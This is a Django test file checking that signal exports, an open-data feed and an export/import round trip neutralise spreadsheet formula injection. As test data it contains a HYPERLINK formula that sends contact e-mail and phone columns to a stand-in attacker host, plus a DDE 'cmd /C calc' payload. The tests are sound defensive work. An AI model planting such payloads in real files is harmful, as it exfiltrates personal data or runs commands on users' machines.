"""Formula injection (OWASP "CSV Injection"): a story that a spreadsheet would run as a formula
leaves in the signal export and the open data as text, and the exchange file comes back in
unchanged."""

import csv
import io
import tempfile
from datetime import datetime, time
from pathlib import Path

from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from samensterk.intake.models import Signal
from samensterk.intake.opendata import closed_quarters, refresh
from samensterk.test import BaseTestCase, make_signal
from samensterk.themes.models import Theme

# The attack test's story: clicked, it sends the e-mail and phone columns (K and L) away.
ATTACK = '=HYPERLINK("http://aanvaller.example/?"&K2&L2,"Klik hier")'


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_cells(content: bytes) -> list[dict]:
    """Per data row: column -> the openpyxl cell, as a spreadsheet program would read it."""
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


class SignalExportFormulaTestCase(BaseTestCase):
    def setUp(self):
        make_signal(
            self.group_a,
            story=ATTACK,
            consent_contact=True,
            contact_email="iemand@example.org",
            contact_phone="0612345678",
            external_id="E-1",
        )

    def export_page(self, file_format: str):
        self.login(self.carla)
        return self.client.post(
            reverse("intake:signal_export"),
            {"owner": "g:groep-a", "file_format": file_format, "include_contact": "on"},
        )

    def assertTextCell(self, cell, text: str):
        self.assertNotEqual(cell.data_type, "f")
        self.assertEqual(cell.value, "'" + text)

    def test_the_page_csv_gives_the_story_as_text(self):
        (row,) = csv_rows(self.export_page("csv").content.decode())
        self.assertEqual(row["text"], "'" + ATTACK)
        self.assertEqual(row["contact_email"], "iemand@example.org")  # the rest as it was

    def test_the_page_xlsx_holds_the_story_as_text_not_as_a_formula(self):
        (row,) = xlsx_cells(self.export_page("xlsx").content)
        self.assertTextCell(row["text"], ATTACK)
        self.assertEqual(row["contact_phone"].value, "0612345678")

    def test_the_command_gives_the_story_as_text_in_csv_and_xlsx(self):
        out = io.StringIO()
        call_command("export_signals", "--organisation", "alfa", "--include-contact", stdout=out)
        self.assertEqual(csv_rows(out.getvalue())[0]["text"], "'" + ATTACK)
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "uit.xlsx"
            call_command(
                "export_signals",
                "--organisation",
                "alfa",
                "--include-contact",
                "--output",
                str(path),
                stderr=io.StringIO(),
            )
            (row,) = xlsx_cells(path.read_bytes())
        self.assertTextCell(row["text"], ATTACK)

    def test_the_pseudonymised_export_gives_the_story_as_text_too(self):
        out = io.StringIO()
        call_command("export_signals", "--organisation", "alfa", stdout=out)
        self.assertTrue(csv_rows(out.getvalue())[0]["text"].startswith("'="))


class ExchangeRoundTripTestCase(BaseTestCase):
    """What the export neutralised, the import gives back: export -> import changes nothing."""

    STORIES = [
        ATTACK,
        "+31 6 12345678 belde: de taxi kwam niet.",
        "- geen taxi\n- geen begeleiding",
        "@gemeente: de lift is weer kapot.",
        "'=Dit begon al met een aanhalingsteken.",
        "''+ en dit met twee.",
        "'s-Hertogenbosch heeft geen toegankelijke bus.",
        "Gewoon een verhaal.",
    ]

    def round_trip(self, name: str) -> str:
        for number, story in enumerate(self.STORIES):
            make_signal(self.group_a, story=story, external_id=f"E-{number}")
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / name
            call_command(
                "export_signals",
                "--organisation",
                "alfa",
                "--include-contact",
                "--output",
                str(path),
                stderr=io.StringIO(),
            )
            Signal.objects.update(story="overschreven")
            out = io.StringIO()
            call_command("import_signals", str(path), organisation="alfa", stdout=out)
        return out.getvalue()

    def stories(self) -> list[str]:
        return list(Signal.objects.order_by("external_id").values_list("story", flat=True))

    def test_a_csv_export_imports_back_with_every_text_unchanged(self):
        out = self.round_trip("uit.csv")
        self.assertIn(f"0 signals created, {len(self.STORIES)} updated.", out)
        self.assertEqual(self.stories(), self.STORIES)

    def test_an_xlsx_export_imports_back_with_every_text_unchanged(self):
        out = self.round_trip("uit.xlsx")
        self.assertIn(f"0 signals created, {len(self.STORIES)} updated.", out)
        self.assertEqual(self.stories(), self.STORIES)


class OpenDataFormulaTestCase(BaseTestCase):
    def test_a_theme_name_that_looks_like_a_formula_leaves_as_text(self):
        Theme.objects.filter(code="vervoer").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
        received_at = timezone.make_aware(datetime.combine(closed_quarters()[0], time(12)))
        make_signal(self.group_a, theme=Theme.objects.get(code="vervoer"), received_at=received_at)
        refresh([self.alfa], now=True)
        for name, delimiter in (("signalen.csv", ","), ("signalen-puntkomma.csv", ";")):
            response = self.client.get(reverse("intake:open_data_file", args=["alfa", name]))
            text = response.content.decode("utf-8-sig")
            names = {row["thema"] for row in csv.DictReader(io.StringIO(text), delimiter=delimiter)}
            self.assertIn("'@SUM(1+1)*cmd|' /C calc'!A0", names)
            self.assertFalse(any(name.startswith("@") for name in names))
        response = self.client.get(reverse("intake:open_data_file", args=["alfa", "signalen.xlsx"]))
        names = {row["thema"].value for row in xlsx_cells(response.content)}
        self.assertIn("'@SUM(1+1)*cmd|' /C calc'!A0", names)
